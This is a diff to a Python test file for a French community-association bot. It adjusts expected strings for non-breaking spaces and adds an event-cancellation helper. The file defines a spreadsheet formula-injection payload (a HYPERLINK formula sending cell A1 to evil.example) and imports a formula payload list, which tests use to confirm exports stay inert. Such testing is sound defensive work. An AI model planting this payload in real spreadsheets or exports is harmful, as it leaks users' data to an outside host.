@@ -15,6 +15,7 @@ from bot import spreadsheets as S
 from bot.db import Database
 from bot.db.models import Member
 from bot.db.models.activity import ImportedFigure
+from tests.conftest import cancel_event
 from tests.formula_payloads import FORMULA_PAYLOADS
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"clic")'
@@ -132,7 +133,7 @@ async def test_recap_exports_keep_hostile_notes_as_text_and_numbers_as_numbers(p
     rendered = MarkdownIt("gfm-like", {"linkify": True}).render(markdown)
     assert "<a " not in rendered and "<img" not in rendered and "<code" not in rendered
     assert "<h3>15 =HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1,&quot;clic&quot;)</h3>" in rendered
-    assert "<li>2018, Promeneurs : =HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1,&quot;clic&quot;)</li>" in rendered
+    assert "<li>2018, Promeneurs\u00a0: =HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1,&quot;clic&quot;)</li>" in rendered
 
     csv_result = await w.coordinator.slash(w.general, "bilan export", annee=2027, format="csv")
     exported = await _last(csv_result).attachments[0].read()
@@ -200,7 +201,7 @@ async def test_event_calendar_files_through_creation_change_and_cancellation(pro
         return str(event["UID"]), str(event["STATUS"]), int(event["SEQUENCE"]), other.dtstart.value
 
     await w.coordinator.slash(
-        w.general, "evenement creer", titre="Café ; numérique, « écrans »", type="thematic_training",
+        w.general, "evenement creer", titre="Café\u00a0; numérique, «\u00a0écrans\u00a0»", type="thematic_training",
         debut="22/06/2027 9h30", fin="16h30", format="in_person", lieu="Centre social, Riom", territoire="63",
     )
     created = await current_ics()
@@ -212,7 +213,7 @@ async def test_event_calendar_files_through_creation_change_and_cancellation(pro
     assert moved[0] == created[0] and moved[1] == "CONFIRMED" and moved[2] > created[2]
     assert moved[3].isoformat() == "2027-06-23T07:30:00+00:00"
     clock.set(clock() + timedelta(minutes=5))
-    await w.coordinator.slash(w.general, "evenement annuler", evenement="1", raison="salle indisponible")
+    await cancel_event(w.coordinator, w.general, evenement="1", raison="salle indisponible")
     cancelled = await current_ics()
     assert cancelled[0] == created[0] and cancelled[1] == "CANCELLED" and cancelled[2] > moved[2]
 
